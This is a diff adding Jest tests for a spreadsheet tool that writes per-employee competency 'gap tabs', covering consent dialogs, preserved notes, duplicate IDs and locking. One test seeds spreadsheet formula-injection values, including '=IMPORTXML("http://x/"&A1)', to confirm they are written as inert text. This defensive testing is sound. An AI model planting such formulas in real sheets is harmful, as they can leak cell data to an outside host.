@@ -1,0 +1,151 @@
+import { describe, expect, test } from '@jest/globals';
+import { openCompany, rowOf, sheetId, shown, TABLES, tabNames, type, writeGapTabs } from './small-company.ts';
+
+const ANA = 'Gap – Ana Silva (E1)';
+const gapTabs = (host: ReturnType<typeof openCompany>) => tabNames(host).filter((name) => name.startsWith('Gap – '));
+
+describe('write gap tabs', () => {
+  test('gives every active employee a tab, and none to who has left', () => {
+    const host = openCompany();
+    expect(writeGapTabs(host)).toContain('4 gap tabs written, 0 unchanged.');
+    expect(gapTabs(host)).toEqual([
+      ANA,
+      'Gap – =HYPERLINK("http x"… (E2)',
+      'Gap – Siân O’Neill (00123)',
+      'Gap – Dana Wu (E4)',
+    ]);
+  });
+
+  test('asks first, and says who can read the tabs', () => {
+    const host = openCompany();
+    const asked = host.run('writeGapTabs');
+    expect(asked).toMatchObject({ kind: 'ask', dialog: { buttons: ['OK', 'CANCEL'] } });
+    expect(JSON.stringify(asked)).toContain('Everyone who can open the file can read all of them');
+    expect(host.run('writeGapTabs', [{ button: 'CANCEL' }])).toMatchObject({ kind: 'done' });
+    expect(gapTabs(host)).toEqual([]);
+  });
+
+  test('says criterion by criterion what is met and what would meet it', () => {
+    const host = openCompany();
+    writeGapTabs(host);
+    expect(rowOf(host, ANA, 'Average rating').slice(1, 5)).toEqual(['3.5 or more', '3.67', '✓ yes', '']);
+    expect(rowOf(host, ANA, 'Lowest rating').slice(1, 5)).toEqual([
+      '3 or more',
+      '2 (Ownership)',
+      '✗ not yet',
+      'Ownership 2 → 3',
+    ]);
+    expect(rowOf(host, ANA, 'Ownership').slice(1, 5)).toEqual(['3', '2', '▲ 1', 'Moves the date back and says how.']);
+    expect(shown(host, ANA)[3]?.[0]).toBe('Not yet · 1 of 2 criteria met');
+  });
+
+  test('writes static values only: no cell of a gap tab is a formula, whatever people typed elsewhere', () => {
+    const host = openCompany();
+    writeGapTabs(host);
+    for (const tab of gapTabs(host)) {
+      const cells = Object.values(host.model.getters.getCells(sheetId(host, tab)));
+      expect(cells.filter((cell) => cell?.isFormula)).toEqual([]);
+    }
+    expect(shown(host, 'Gap – =HYPERLINK("http x"… (E2)')[0]?.[0]).toBe('=HYPERLINK("http://x","Ben")');
+    expect(rowOf(host, ANA, 'Listening')[5]).toBe('=IMPORTXML("http://x/"&A1)');
+  });
+
+  test('leaves a tab alone when nothing on it would change', () => {
+    const host = openCompany();
+    writeGapTabs(host);
+    expect(writeGapTabs(host)).toContain('0 gap tabs written, 4 unchanged.');
+    type(host, 'Ratings', 'E2', '3');
+    expect(writeGapTabs(host)).toContain('1 gap tab written, 3 unchanged.');
+    expect(rowOf(host, ANA, 'Ownership').slice(1, 4)).toEqual(['3', '3', '—']);
+  });
+
+  test('takes the grid down to what is used', () => {
+    const host = openCompany();
+    writeGapTabs(host);
+    expect(shown(host, ANA).length).toBeLessThan(40);
+    expect(shown(host, ANA)[0]).toHaveLength(10);
+  });
+
+  test('draws a chart of required against rating, once', () => {
+    const host = openCompany();
+    writeGapTabs(host);
+    type(host, 'Ratings', 'E2', '3');
+    writeGapTabs(host);
+    expect(host.model.getters.getChartIds(sheetId(host, ANA))).toHaveLength(1);
+  });
+});
+
+describe('what people typed', () => {
+  test('stays with its competency when the order of the rows changes', () => {
+    const host = openCompany();
+    writeGapTabs(host);
+    const before = shown(host, ANA).findIndex((row) => row[0] === 'Listening') + 1;
+    type(host, ANA, `I${before}`, 'Run the on-call hand-over');
+    type(host, ANA, `J${before}`, "'=JP");
+    type(host, 'Ratings', 'F2', '1');
+    writeGapTabs(host);
+    const after = shown(host, ANA).findIndex((row) => row[0] === 'Listening') + 1;
+    expect(after).not.toBe(before);
+    expect(rowOf(host, ANA, 'Listening').slice(8)).toEqual(['Run the on-call hand-over', '=JP']);
+  });
+
+  test('moves to “Kept from before” when its competency is gone, and stays there', () => {
+    const host = openCompany();
+    writeGapTabs(host);
+    const row = shown(host, ANA).findIndex((cells) => cells[0] === 'Listening') + 1;
+    type(host, ANA, `I${row}`, 'Shadow two calls');
+    type(host, 'Competencies', 'B4', 'Hearing');
+    writeGapTabs(host);
+    type(host, 'Ratings', 'E2', '5');
+    writeGapTabs(host);
+    const values = shown(host, ANA);
+    const kept = values.findIndex((cells) => cells[0] === 'Kept from before');
+    expect(values[kept + 2]).toEqual(['Listening', '', '', '', '', '', '', '', 'Shadow two calls', '']);
+  });
+
+  test('survives a rename of the tab', () => {
+    const host = openCompany();
+    writeGapTabs(host);
+    const row = shown(host, ANA).findIndex((cells) => cells[0] === 'Closing') + 1;
+    type(host, ANA, `I${row}`, 'Write the offer alone');
+    host.model.dispatch('RENAME_SHEET', { sheetId: sheetId(host, ANA), oldName: ANA, newName: 'Ana' });
+    type(host, 'Ratings', 'E2', '3');
+    expect(writeGapTabs(host)).toContain('1 gap tab written');
+    expect(rowOf(host, 'Ana', 'Closing')[8]).toBe('Write the offer alone');
+  });
+});
+
+describe('tabs that are not ours to write', () => {
+  test('two tabs with one ID: nothing is written for that person, and the sentence names both', () => {
+    const host = openCompany();
+    writeGapTabs(host);
+    host.model.dispatch('DUPLICATE_SHEET', {
+      sheetId: sheetId(host, ANA),
+      sheetIdTo: 'copy',
+      sheetNameTo: 'Gap – Ana S. (E1)',
+    });
+    type(host, 'Ratings', 'E2', '3');
+    const said = writeGapTabs(host);
+    expect(said).toContain('0 gap tabs written, 3 unchanged.');
+    expect(said).toContain(`“${ANA}” and “Gap – Ana S. (E1)” carry the ID E1. Keep one, then write again.`);
+    expect(rowOf(host, ANA, 'Ownership')[2]).toBe('2');
+  });
+
+  test('somebody’s own tab called Overview is left alone', () => {
+    const host = openCompany({ Overview: [['My notes']] });
+    expect(writeGapTabs(host)).toContain('There is a tab “Overview” that was not written by Career Framework');
+    expect(shown(host, 'Overview')[0]?.[0]).toBe('My notes');
+  });
+
+  test('with nobody in People there is a sentence and no tab', () => {
+    const host = openCompany({ People: [TABLES['People']?.[0] ?? []] });
+    expect(host.run('writeGapTabs')).toMatchObject({ kind: 'ask', dialog: { title: 'No gap tabs to write' } });
+  });
+
+  test('while somebody else writes, nothing is written', () => {
+    const host = openCompany();
+    host.occupyLock(true);
+    expect(writeGapTabs(host)).toContain('Somebody else is writing gap tabs in this file right now.');
+    expect(gapTabs(host)).toEqual([]);
+  });
+});
